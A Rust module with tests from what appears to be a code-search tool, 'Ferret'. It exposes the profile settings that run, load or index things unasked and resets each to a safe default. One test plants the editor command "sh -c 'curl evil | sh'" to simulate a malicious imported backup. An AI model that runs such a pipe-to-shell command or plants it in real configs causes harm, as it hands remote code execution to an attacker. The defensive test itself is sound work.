//! The settings of a profile that make Ferret run, load or open something without asking
//! each time, shown together (Settings' Security section, `ferret profile show`) so each
//! can be seen and taken back (`ferret profile set --reset`, the Revoke buttons):
//!
//! - `editor_command`: a program Ferret runs when a result is opened;
//! - `model_dir`: the directory `libonnxruntime.so` and the model are loaded from;
//! - `index_secret_files`: credential files (`.env`, private keys) copied into the index;
//! - the link grants: repositories whose files a web page's `ferret://open` link opens in
//!   the editor without asking (see [`crate::engine::LinkGrant`]).
//!
//! A profile imported from someone else's backup may carry any of them, which is why they
//! must be visible rather than buried in `config.json`.

use std::path::PathBuf;

use serde::{Deserialize, Serialize};

use super::manager::Profiles;
use crate::background::JobKind;
use crate::engine::LinkGrant;
use crate::links::editor::EditorKind;
use crate::Result;

/// A profile's security-relevant settings, as they are now.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct SecuritySettings {
    /// The editor results open in; with `custom`, `editor_command` is what runs.
    pub editor: EditorKind,
    /// The custom editor's command template (`{path}`, `{line}`), if one is set.
    pub editor_command: Option<String>,
    /// The directory this profile loads ONNX Runtime and the model from; `None` uses
    /// `$FERRET_MODEL_DIR` or the files installed with Ferret.
    pub model_dir: Option<PathBuf>,
    /// Files that usually hold credentials (`.env`, private keys, `.npmrc`) are indexed,
    /// so their contents are searchable and reach agents through MCP.
    pub index_secret_files: bool,
    /// Repositories whose files `ferret://open` links open without asking.
    pub link_grants: Vec<LinkGrant>,
}

/// One security setting to take back to its safe default.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(tag = "setting", rename_all = "snake_case")]
pub enum SecurityReset {
    /// Forget the custom editor command; results open in the default editor (VS Code)
    /// if the custom one was chosen.
    EditorCommand,
    /// Load ONNX Runtime and the model from `$FERRET_MODEL_DIR` or the installed files.
    ModelDir,
    /// Skip credential files again; a queued index run drops those already indexed.
    IndexSecretFiles,
    /// Links ask again before opening files of this repository.
    LinkGrant { repo_id: i64 },
    /// Links ask again before opening files of any repository.
    AllLinkGrants,
}

impl SecurityReset {
    /// Whether an open engine holds what this resets (the editor, the model directory,
    /// the indexing options), so background work running with it must restart to stop
    /// using it. Link grants are read where they are used and need no restart.
    pub fn restarts_engine(self) -> bool {
        !matches!(
            self,
            SecurityReset::LinkGrant { .. } | SecurityReset::AllLinkGrants
        )
    }
}

impl Profiles {
    /// Profile `id`'s security-relevant settings.
    pub fn security(&self, id: &str) -> Result<SecuritySettings> {
        let config = self.config(id)?;
        Ok(SecuritySettings {
            editor: config.editor,
            editor_command: config.editor_command,
            model_dir: config.model_dir,
            index_secret_files: config.index_secret_files,
            link_grants: self.engine(id)?.link_grants()?,
        })
    }

    /// Takes one of profile `id`'s security settings back to its safe default, notes it in
    /// the profile's audit log, and returns the settings as they are now. An open engine
    /// holds the old config, so it is closed and reopened on next use; background work
    /// running with it should be restarted by the caller when
    /// [`SecurityReset::restarts_engine`] (as after [`Profiles::set_config`]).
    /// Resetting what is at its default already changes nothing; revoking a link grant the
    /// repository does not have fails as not found.
    pub fn reset_security(&self, id: &str, reset: SecurityReset) -> Result<SecuritySettings> {
        let before = self.config(id)?;
        let mut config = before.clone();
        let detail = match reset {
            SecurityReset::LinkGrant { repo_id } => {
                self.engine(id)?.revoke_link_open(repo_id)?;
                return self.security(id);
            }
            SecurityReset::AllLinkGrants => {
                self.engine(id)?.revoke_all_link_opens()?;
                return self.security(id);
            }
            SecurityReset::EditorCommand => {
                config.editor_command = None;
                if config.editor == EditorKind::Custom {
                    config.editor = EditorKind::default();
                }
                format!("editor command (was {:?})", before.editor_command)
            }
            SecurityReset::ModelDir => {
                config.model_dir = None;
                format!("model directory (was {:?})", before.model_dir)
            }
            SecurityReset::IndexSecretFiles => {
                config.index_secret_files = false;
                "secret files are no longer indexed".to_string()
            }
        };
        if config != before {
            self.set_config(id, &config)?;
            let engine = self.engine(id)?;
            engine.audit("setting-reset", &detail)?;
            let has_repos = !engine.store().repos()?.is_empty();
            if before.index_secret_files && !config.index_secret_files && has_repos {
                // Files now skipped leave the index at the next run: queue it for the
                // app's or the daemon's runner (a terminal's `ferret index` runs it now).
                engine.enqueue_job(JobKind::Index, None)?;
            }
        }
        self.security(id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use crate::background::JobState;
    use crate::profiles::manager::ProfilesOptions;
    use crate::profiles::{ProfileConfig, DEFAULT_PROFILE};

    #[test]
    fn security_settings_are_listed_and_each_resets_to_its_default() {
        let dir = tempfile::tempdir().unwrap();
        let profiles = Profiles::open(ProfilesOptions {
            data_root: Some(dir.path().join("data")),
            ..ProfilesOptions::default()
        })
        .unwrap();
        let repo = dir.path().join("api");
        std::fs::create_dir_all(&repo).unwrap();
        let engine = profiles.engine(DEFAULT_PROFILE).unwrap();
        engine.add_repo(&repo, Some("api")).unwrap();
        let grant = engine.allow_link_open("api").unwrap();
        drop(engine);
        // What an imported backup could bring.
        let mut config = profiles.config(DEFAULT_PROFILE).unwrap();
        config.editor = EditorKind::Custom;
        config.editor_command = Some("sh -c 'curl evil | sh' {path}".into());
        config.model_dir = Some("/tmp/planted".into());
        config.index_secret_files = true;
        profiles.set_config(DEFAULT_PROFILE, &config).unwrap();

        let shown = profiles.security(DEFAULT_PROFILE).unwrap();
        assert_eq!(
            shown,
            SecuritySettings {
                editor: EditorKind::Custom,
                editor_command: config.editor_command.clone(),
                model_dir: Some("/tmp/planted".into()),
                index_secret_files: true,
                link_grants: vec![grant.clone()],
            }
        );

        let reset = |what| profiles.reset_security(DEFAULT_PROFILE, what).unwrap();
        let after = reset(SecurityReset::EditorCommand);
        assert_eq!(
            (after.editor, after.editor_command),
            (EditorKind::Vscode, None)
        );
        assert_eq!(reset(SecurityReset::ModelDir).model_dir, None);
        let engine = profiles.engine(DEFAULT_PROFILE).unwrap();
        assert_eq!(engine.jobs(0).unwrap().len(), 0);
        assert!(!reset(SecurityReset::IndexSecretFiles).index_secret_files);
        let engine_now = profiles.engine(DEFAULT_PROFILE).unwrap();
        let jobs = engine_now.jobs(0).unwrap();
        assert_eq!(jobs.len(), 1, "an index run drops the secret files indexed");
        assert_eq!(jobs[0].state, JobState::Queued);
        assert!(
            !Arc::ptr_eq(&engine, &engine_now),
            "the engine holding the old settings was let go"
        );
        let revoked = reset(SecurityReset::LinkGrant {
            repo_id: grant.repo_id,
        });
        assert_eq!(revoked.link_grants, []);
        assert_eq!(
            profiles.config(DEFAULT_PROFILE).unwrap(),
            ProfileConfig {
                format_version: config.format_version,
                ..ProfileConfig::default()
            },
            "every security setting is back to its default"
        );
        let audit: Vec<String> = engine_now
            .audit_log()
            .unwrap()
            .into_iter()
            .filter(|row| row.event == "setting-reset")
            .map(|row| row.detail)
            .collect();
        assert_eq!(audit.len(), 3, "{audit:?}");
        assert!(audit[0].contains("curl evil"), "{audit:?}");

        // What is at its default already stays as it is; a grant that is not there is an error.
        reset(SecurityReset::IndexSecretFiles);
        reset(SecurityReset::AllLinkGrants);
        assert_eq!(engine_now.jobs(0).unwrap().len(), 1, "nothing more queued");
        let err = profiles
            .reset_security(
                DEFAULT_PROFILE,
                SecurityReset::LinkGrant {
                    repo_id: grant.repo_id,
                },
            )
            .unwrap_err();
        assert_eq!(err.kind(), crate::ErrorKind::NotFound, "{err}");
    }

    #[test]
    fn resets_are_tagged_by_setting_on_the_wire() {
        let reset: SecurityReset =
            serde_json::from_str(r#"{"setting": "link_grant", "repo_id": 7}"#).unwrap();
        assert_eq!(reset, SecurityReset::LinkGrant { repo_id: 7 });
        let reset: SecurityReset = serde_json::from_str(r#"{"setting": "model_dir"}"#).unwrap();
        assert_eq!(reset, SecurityReset::ModelDir);
        assert!(!SecurityReset::AllLinkGrants.restarts_engine());
        assert!(SecurityReset::IndexSecretFiles.restarts_engine());
    }
}
